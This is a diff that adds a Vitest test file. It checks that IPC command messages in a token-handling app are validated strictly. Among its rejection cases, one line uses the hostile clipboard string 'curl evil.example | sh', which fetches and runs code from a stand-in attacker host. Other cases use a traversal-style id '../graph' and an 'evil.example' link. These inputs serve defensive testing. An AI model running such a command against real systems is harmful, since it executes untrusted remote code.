@@ -1,0 +1,72 @@
+import { describe, expect, it } from 'vitest';
+import { commandArguments, type CommandName } from './ipc';
+
+const names = Object.keys(commandArguments) as CommandName[];
+const accepts = (name: CommandName, args: unknown): boolean => commandArguments[name].safeParse(args).success;
+const draft = {
+  name: 'Orders',
+  accessKind: 'resource',
+  access: 'api://orders',
+  sampleUrl: 'https://a.example',
+};
+
+/** One right message for each command that needs something. */
+const right: Partial<Record<CommandName, object>> = {
+  copyToken: { presetId: 'graph' },
+  copySnippet: { presetId: 'graph', format: 'curl' },
+  renew: { presetId: 'graph' },
+  signInForPreset: { presetId: crypto.randomUUID() },
+  chooseOrganisationApp: { clientId: 'unchecked', tenant: '' },
+  selectAccount: { accountId: 'a.b' },
+  signOut: { accountId: 'a.b' },
+  addPreset: draft,
+  editPreset: { presetId: 'graph', draft },
+  deletePreset: { presetId: 'graph' },
+  restorePreset: { presetId: 'graph' },
+  setPinned: { presetId: 'graph', pinned: true },
+  dismissNotice: { kind: 'presets-restored' },
+  copyHelpText: { text: 'redirect-uri' },
+  openHelpLink: { link: 'error-code' },
+};
+
+describe('a message from a page', () => {
+  it.each(names)('%s is taken in its right form, and refused with anything more', (name) => {
+    const args = right[name] ?? {};
+    expect(accepts(name, args)).toBe(true);
+    expect(accepts(name, { ...args, token: 'x' })).toBe(false);
+  });
+
+  it.each(names)('%s is refused without its object', (name) => {
+    for (const args of [undefined, null, 'graph', 1, [right[name] ?? {}], () => undefined]) {
+      expect(accepts(name, args)).toBe(false);
+    }
+  });
+
+  it('is refused when a field is missing', () => {
+    for (const [name, args] of Object.entries(right)) {
+      for (const field of Object.keys(args)) {
+        const less = Object.fromEntries(Object.entries(args).filter(([key]) => key !== field));
+        expect(accepts(name as CommandName, less), `${name} without ${field}`).toBe(false);
+      }
+    }
+  });
+
+  it.each(['', 'Graph', '../graph', 'a b', '-a', 'a'.repeat(65), 'graph\n'])(
+    'has no preset called %j',
+    (presetId) => {
+      expect(accepts('copyToken', { presetId })).toBe(false);
+    },
+  );
+
+  it('cannot put a text of its own on the clipboard, nor open a page of its own', () => {
+    expect(accepts('copyHelpText', { text: 'curl evil.example | sh' })).toBe(false);
+    expect(accepts('openHelpLink', { link: 'https://evil.example' })).toBe(false);
+  });
+
+  it('is not endless', () => {
+    expect(accepts('addPreset', { ...draft, name: 'n'.repeat(1001) })).toBe(false);
+    expect(accepts('addPreset', { ...draft, access: 'n'.repeat(10_001) })).toBe(false);
+    expect(accepts('chooseOrganisationApp', { clientId: 'n'.repeat(1001), tenant: 'x' })).toBe(false);
+    expect(accepts('selectAccount', { accountId: 'n'.repeat(257) })).toBe(false);
+  });
+});
